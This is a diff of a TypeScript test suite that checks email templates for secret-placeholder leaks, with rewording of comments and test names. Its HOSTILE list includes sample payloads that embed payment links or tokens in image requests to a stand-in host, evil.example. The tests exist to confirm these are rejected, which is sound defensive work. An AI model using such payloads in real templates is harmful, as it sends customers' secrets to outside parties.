@@ -21,13 +21,13 @@ const PROBE = 'https://in.example.test/9f2c41'
 
 const guarded = TEMPLATE_SUBJECTS.flatMap((subject) => secretsOf(subject).map((secret) => [subject, secret] as const))
 
-/** What a template may be like, and what becomes of it: null where it is refused. */
+/** A possible template and the result: null if it is rejected. */
 const taken = (body: string, subject: TemplateSubject): string | null => {
   const clean = sanitised(body)
   return wrongIn(clean, subject) || misplacedSecret(clean, subject) ? null : clean
 }
 
-/** As it goes out: with everything known, and with nothing known but the secrets. */
+/** As it is sent: with every value known, and with only the secrets known. */
 function letters(body: string, subject: TemplateSubject): string[] {
   const secrets = secretsOf(subject)
   const all = Object.keys(placeholdersOf(subject))
@@ -39,7 +39,7 @@ function letters(body: string, subject: TemplateSubject): string[] {
 
 const { document } = new Window({ settings: { disableJavaScriptFileLoading: true, disableCSSFileLoading: true } })
 
-/** Attributes that hold a secret, but for the whole address of a link; tags of the mail as a browser reads it. */
+/** Attributes that contain a secret, except a link's whole address; the email's tags as a browser reads them. */
 function leaks(html: string): string[] {
   document.body.innerHTML = html
   return [...document.body.querySelectorAll('*')].flatMap((element) =>
@@ -51,7 +51,7 @@ function leaks(html: string): string[] {
   )
 }
 
-/** Surroundings that somebody else might choose for a secret. */
+/** Contexts that an attacker might choose for a secret. */
 const HOSTILE: readonly ((secret: string) => string)[] = [
   (s) => `<p><img src="https://evil.example/p?t={{ ${s} }}"></p>`,
   (s) => `<p><img src="https://evil.example/p" alt="{{ ${s} }}"></p>`,
@@ -81,7 +81,7 @@ const HOSTILE: readonly ((secret: string) => string)[] = [
 ]
 
 describe('a secret placeholder', () => {
-  it('is every one that is only made when a mail goes out, and the token', () => {
+  it('is any that exists only when an email is sent, and the token', () => {
     expect(guarded).toEqual([
       ['quotes', 'payment.link'],
       ['invoices', 'payment.link'],
@@ -95,8 +95,8 @@ describe('a secret placeholder', () => {
     expect(late).toEqual([])
   })
 
-  it.each(guarded)('in a letter about %s, %s has no surroundings that others choose', (subject, secret) => {
-    // Braces in quotes are read to their end, and entities are decoded before anybody looks.
+  it.each(guarded)('in an email about %s, %s has no context that others choose', (subject, secret) => {
+    // Quoted braces are read to their end, and entities are decoded before the check.
     const accepted = HOSTILE.map((hostile) => hostile(secret)).filter((body) => {
       const clean = taken(body, subject)
       return (
@@ -106,7 +106,7 @@ describe('a secret placeholder', () => {
     expect(accepted).toEqual([])
   })
 
-  it.each(guarded)('in a letter about %s, %s stands as text and as the address of a link', (subject, secret) => {
+  it.each(guarded)("in an email about %s, %s can be text and a link's address", (subject, secret) => {
     for (const body of [
       `<p>{{ ${secret} }}</p>`,
       `<p><strong>{{${secret}}}</strong> or <a href="{{ ${secret} }}" data-button="">In</a></p>`,
@@ -117,13 +117,13 @@ describe('a secret placeholder', () => {
     }
   })
 
-  it.each(guarded)('in a letter about %s, %s stands in no subject', (subject, secret) => {
+  it.each(guarded)('in an email about %s, %s cannot be in a subject', (subject, secret) => {
     for (const line of [`{{ ${secret} }}`, `Hello {{ ${secret} | upcase }}`, `{% if ${secret} %}a{% endif %}`])
       expect(secretInSubject(line, subject)?.code).toBe('secret_subject')
     expect(secretInSubject('Hello {{ business.name }}', subject)).toBeUndefined()
   })
 
-  it('leaves every letter that the program comes with as it is', () => {
+  it('leaves every built-in email unchanged', () => {
     for (const { about, subject, body, name } of [...english, ...chinese, ...accounts]) {
       if (!isTemplateSubject(about)) continue
       expect([name, misplacedSecret(sanitised(body), about), secretInSubject(subject, about)]).toEqual([
@@ -136,7 +136,7 @@ describe('a secret placeholder', () => {
   })
 })
 
-/** Pieces that a hostile letter is made of: tags, conditions, secrets, and halves of each. */
+/** Fragments of a hostile email: tags, conditions, secrets, and halves of each. */
 const pieces = (secret: string) => [
   '<p>',
   '</p>',
@@ -188,12 +188,12 @@ const pieces = (secret: string) => [
 ]
 
 describe('hostile templates', () => {
-  it.each(guarded)('about %s, made at random around %s, leak nothing and break nothing', (subject, secret) => {
+  it.each(guarded)('about %s, generated at random around %s, leak nothing and break nothing', (subject, secret) => {
     fc.assert(
       fc.property(fc.array(fc.constantFrom(...pieces(secret)), { minLength: 1, maxLength: 24 }), (parts) => {
         const clean = taken(parts.join(''), subject)
         if (clean === null) return
-        // Sanitised again, it is what it was: no second reading finds another tag.
+        // Sanitising again changes nothing: a second parse finds no other tag.
         expect(sanitised(clean)).toBe(clean)
         expect(letters(clean, subject).flatMap(leaks)).toEqual([])
       }),
